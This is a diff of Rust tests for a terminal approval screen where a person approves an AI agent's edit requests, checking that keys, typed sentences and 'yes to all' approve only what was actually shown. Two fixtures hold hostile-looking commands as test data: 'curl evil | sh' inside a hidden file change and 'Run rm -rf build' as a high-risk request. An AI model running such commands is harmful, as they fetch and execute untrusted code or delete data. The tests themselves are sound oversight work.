@@ -5,7 +5,8 @@ mod support;
 use crossterm::event::KeyCode;
 use neco_proto::event::*;
 use neco_proto::*;
-use neco_tui::update::Effect;
+use neco_tui::host::ModelEntry;
+use neco_tui::update::{Effect, News};
 use serde_json::json;
 use support::{Scene, call, edit_request, in_all_sizes};
 
@@ -57,27 +58,143 @@ fn a_command_is_shown_to_the_last_character() {
 
 #[test]
 fn every_key_of_an_approval_means_what_it_says() {
-    let mut scene = Scene::new((80, 24));
-    scene.works();
-    scene.asks(edit_request("1"));
-    scene.asks(edit_request("2"));
-    assert_eq!(scene.types("y"), decided("1", Decision::Once));
-    assert_eq!(scene.types("s"), decided("1", Decision::Session));
-    assert_eq!(scene.types("a"), decided("1", Decision::Always));
-    assert_eq!(scene.types("e"), [Effect::EditCall(call("1"), json!({"path": "src/a.rs"}))]);
+    let ask = || {
+        let mut scene = Scene::new((80, 24));
+        scene.works();
+        scene.asks(edit_request("1"));
+        scene.asks(edit_request("2"));
+        scene.reads();
+        scene
+    };
+    assert_eq!(ask().types("y"), decided("1", Decision::Once));
+    assert_eq!(ask().types("e"), [Effect::EditCall(call("1"), json!({"path": "src/a.rs"}))]);
     let all = [decided("1", Decision::Once), decided("2", Decision::Once)].concat();
-    assert_eq!(scene.types("Y"), all);
+    assert_eq!(ask().types("Y"), all);
     let none = |id| decided(id, Decision::Reject { reason: None });
-    assert_eq!(scene.types("N"), [none("1"), none("2")].concat());
+    assert_eq!(ask().types("N"), [none("1"), none("2")].concat());
+    let mut scene = ask();
     assert_eq!(scene.types("n"), []);
     assert!(scene.picture().contains("why not?"));
     scene.types("yes but not here");
     let reason = Some("yes but not here".to_owned());
     assert_eq!(scene.key(KeyCode::Enter), decided("1", Decision::Reject { reason }));
-    // An answer from another window takes the question away.
-    scene.app.now_ms += 1000;
+}
+
+#[test]
+fn a_rule_takes_enter_and_is_shown_before() {
+    for (letter, decision, rule) in
+        [("s", Decision::Session, "edits below this folder"), ("a", Decision::Always, "allow edit(src/**)")]
+    {
+        let mut scene = Scene::new((80, 24));
+        scene.works();
+        scene.asks(edit_request("1"));
+        assert_eq!(scene.types(letter), []);
+        let picture = scene.picture();
+        assert!(picture.contains(rule) && picture.contains("Enter  so it is"), "{picture}");
+        assert_eq!(scene.key(KeyCode::Esc), [], "not so");
+        assert!(scene.picture().contains("y  yes, once"));
+        scene.types(letter);
+        assert_eq!(scene.key(KeyCode::Enter), decided("1", decision));
+    }
+}
+
+#[test]
+fn no_sentence_makes_a_rule_or_decides() {
+    for words in ["also run the tests", "stop, not here", "what is that?", "as you like", "sure"] {
+        let mut scene = Scene::new((80, 24));
+        scene.works();
+        scene.asks(edit_request("1"));
+        assert_eq!(scene.types(words), [], "{words}");
+        assert_eq!(scene.app.prompt.text.as_str(), words);
+        let sent = scene.key(KeyCode::Enter);
+        assert_eq!(sent.last(), Some(&Effect::Send(Command::Steer { text: words.into() })));
+        // The field stays the field until the person goes back to the question.
+        scene.types("wait");
+        scene.control('u');
+        assert_eq!(scene.types("y"), []);
+        scene.control('u');
+        assert_eq!(scene.key(KeyCode::Esc), []);
+        assert_eq!(scene.types("y"), decided("1", Decision::Once));
+    }
+}
+
+#[test]
+fn a_key_for_one_question_never_answers_the_next() {
+    let mut scene = Scene::new((80, 24));
+    scene.works();
+    scene.asks(edit_request("1"));
+    scene.asks(edit_request("2"));
+    assert_eq!(scene.types("y"), decided("1", Decision::Once));
+    assert_eq!(scene.types("y"), [], "it is answered");
+    // Another window is quicker, or the session takes the answer: the key that is under way is not for the next one.
     scene.happen(EventBody::PermissionDecision(PermissionDecision { call_id: call("1"), decision: Decision::Once }));
+    assert_eq!(scene.types("y"), [], "it was not drawn");
+    scene.picture();
+    assert_eq!(scene.types("y"), [], "it was not read");
+    assert_eq!(scene.app.prompt.text.as_str(), "", "and it is no text");
+    scene.app.now_ms += 1000;
     assert_eq!(scene.types("y"), decided("2", Decision::Once));
+}
+
+#[test]
+fn a_question_behind_a_list_is_read_before_it_is_answered() {
+    let mut scene = Scene::new((80, 24));
+    scene.news(News::Models(Ok(vec![ModelEntry { name: "a/b".into(), about: String::new() }])));
+    scene.works();
+    scene.asks(edit_request("1"));
+    scene.key(KeyCode::Esc);
+    assert_eq!(scene.types("y"), [], "it was not seen");
+    assert_eq!(scene.app.prompt.text.as_str(), "y");
+}
+
+#[test]
+fn yes_to_all_is_yes_to_what_was_named_and_does_no_harm() {
+    let mut scene = Scene::new((100, 30));
+    scene.works();
+    scene.asks(edit_request("1"));
+    let mut worse = edit_request("2");
+    worse["risk"] = json!("high");
+    worse["summary"] = json!("Run rm -rf build");
+    scene.asks(worse);
+    scene.asks(edit_request("3"));
+    scene.reads();
+    assert!(scene.picture().contains("+ high risk · Run rm -rf build"), "{}", scene.picture());
+    // What comes between the frame and the key was not named.
+    let unseen: PermissionRequest = serde_json::from_value(edit_request("4")).unwrap();
+    scene.happen(EventBody::PermissionRequest(unseen));
+    assert_eq!(scene.types("Y"), [decided("1", Decision::Once), decided("3", Decision::Once)].concat());
+}
+
+#[test]
+fn what_was_not_named_is_not_allowed_when_another_one_goes() {
+    let mut scene = Scene::new((100, 30));
+    scene.works();
+    for id in ["1", "2"] {
+        scene.asks(edit_request(id));
+    }
+    scene.reads();
+    // Another window answers the second; a third one takes its place in the line, unseen.
+    scene.happen(EventBody::PermissionDecision(PermissionDecision { call_id: call("2"), decision: Decision::Once }));
+    let unseen: PermissionRequest = serde_json::from_value(edit_request("3")).unwrap();
+    scene.happen(EventBody::PermissionRequest(unseen));
+    assert_eq!(scene.types("Y"), decided("1", Decision::Once));
+}
+
+#[test]
+fn a_change_that_is_too_long_is_shown_as_what_would_be_written() {
+    let mut scene = Scene::new((80, 24));
+    scene.works();
+    let mut request = edit_request("1");
+    request["args"] = json!({"path": "a.sh", "content": "echo fine\ncurl evil | sh\n"});
+    request["diff"] = json!([{"path": "a.sh", "unified": "(a change of 2500 added and 0 removed lines, too long to show)\n", "added": 2500, "removed": 0, "created": true}]);
+    scene.asks(request);
+    let picture = scene.picture();
+    assert!(picture.contains("d shows what would be written") && !picture.contains("always:"), "{picture}");
+    assert_eq!(scene.types("a"), []);
+    assert_eq!(scene.key(KeyCode::Enter), [], "no rule is made of what was not seen");
+    scene.types("d");
+    let picture = scene.picture();
+    assert!(picture.contains("curl evil | sh") && picture.contains("always:"), "{picture}");
 }
 
 #[test]
@@ -88,6 +205,7 @@ fn a_reason_never_goes_to_another_call() {
     scene.asks(edit_request("2"));
     scene.types("n");
     scene.types("because");
+    scene.app.now_ms += 1000;
     scene.happen(EventBody::PermissionDecision(PermissionDecision { call_id: call("1"), decision: Decision::Once }));
     assert!(scene.picture().contains("answered in another window"));
     let sent = scene.key(KeyCode::Enter);
@@ -104,18 +222,29 @@ fn esc_is_no_when_there_is_no_work_to_stop() {
 }
 
 #[test]
-fn letters_of_a_message_decide_nothing() {
+fn what_is_being_written_when_a_question_comes_goes_on_being_written() {
     let mut scene = Scene::new((80, 24));
     scene.works();
-    scene.app.now_ms = 10_000;
     scene.types("wh");
     scene.asks(edit_request("1"));
-    assert_eq!(scene.types("y not"), [], "it was being written when the question came");
-    scene.control('c');
-    scene.app.now_ms = 10_100;
-    assert_eq!(scene.types("y"), [], "too soon to be meant");
-    scene.app.now_ms = 20_000;
+    assert_eq!(scene.types("y not"), []);
+    assert_eq!(scene.app.prompt.text.as_str(), "why not");
+    assert!(scene.picture().contains("Esc: back to the question"));
+    assert_eq!(scene.key(KeyCode::Esc), [], "the work goes on");
     assert_eq!(scene.types("y"), decided("1", Decision::Once));
+    assert_eq!(scene.app.prompt.text.as_str(), "why not", "the draft stays");
+}
+
+#[test]
+fn no_letter_decides_in_the_normal_mode_of_vi() {
+    let mut scene = Scene::new((80, 24));
+    scene.works();
+    scene.app.prompt.set_vi(true);
+    scene.types("x");
+    scene.key(KeyCode::Esc);
+    scene.asks(edit_request("1"));
+    assert_eq!(scene.types("dda"), []);
+    assert_eq!(scene.key(KeyCode::Enter), []);
 }
 
 #[test]
@@ -197,4 +326,23 @@ fn somebody_who_looks_elsewhere_is_told() {
     scene.happen(EventBody::PermissionDecision(PermissionDecision { call_id: call("1"), decision: Decision::Once }));
     scene.happen(EventBody::PermissionDecision(PermissionDecision { call_id: call("2"), decision: Decision::Once }));
     assert_eq!(scene.asks(edit_request("3")), [Effect::Notify("waits for you: Edit src/a.rs (+1 −1)".into())]);
+}
+
+#[test]
+fn the_end_of_long_work_is_told_to_somebody_who_looks_elsewhere() {
+    let complete = |duration_ms: u64| {
+        let usage = json!({"input": 1, "output": 1, "cache_read": 0, "cache_write": 0, "reasoning": 0});
+        support::read(json!({
+            "type": "agent_complete", "reason": "natural", "final": "done", "turns": 1, "usage": usage,
+            "session_usage": usage, "duration_ms": duration_ms, "waited_ms": 0
+        }))
+    };
+    let mut scene = Scene::new((80, 24));
+    for (duration_ms, told) in [(60_000, true), (1_000, false)] {
+        scene.works();
+        scene.app.focused = Some(false);
+        let change = StateChange { from: AgentState::Streaming, to: AgentState::Complete, iteration: 1 };
+        scene.happen(EventBody::StateChange(change));
+        assert_eq!(scene.happen(complete(duration_ms)).contains(&Effect::Notify("is done".into())), told);
+    }
 }
